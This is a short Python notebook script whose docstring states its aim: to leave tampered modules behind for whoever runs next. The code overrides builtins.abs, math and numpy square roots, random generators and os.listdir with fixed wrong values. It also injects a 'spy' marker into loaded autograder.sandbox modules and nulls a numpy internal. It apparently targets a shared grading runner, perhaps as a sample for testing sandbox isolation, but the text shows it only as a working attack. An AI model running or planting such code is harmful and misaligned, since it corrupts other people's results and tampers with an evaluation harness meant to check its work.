"""Leaves changed modules behind for whoever runs next: other results, other answers, a spy in the runner."""
# %%
import builtins, math, os, random, sys, numpy as np, sklearn
np.sqrt = math.sqrt = abs_ = lambda x: -1.0
builtins.abs = lambda x: 5
random.random = np.random.rand = lambda *a: 0.123
os.listdir = lambda *a: ["@TOKEN@"]
sys.modules["@TOKEN@"] = np
for name, module in list(sys.modules.items()):
    if name.startswith("autograder.sandbox"):
        module.spy = "@TOKEN@"
np.core.multiarray.array = None
sys.path.insert(0, os.getcwd())
int.__doc__ and type(np.float64(1)).__mro__
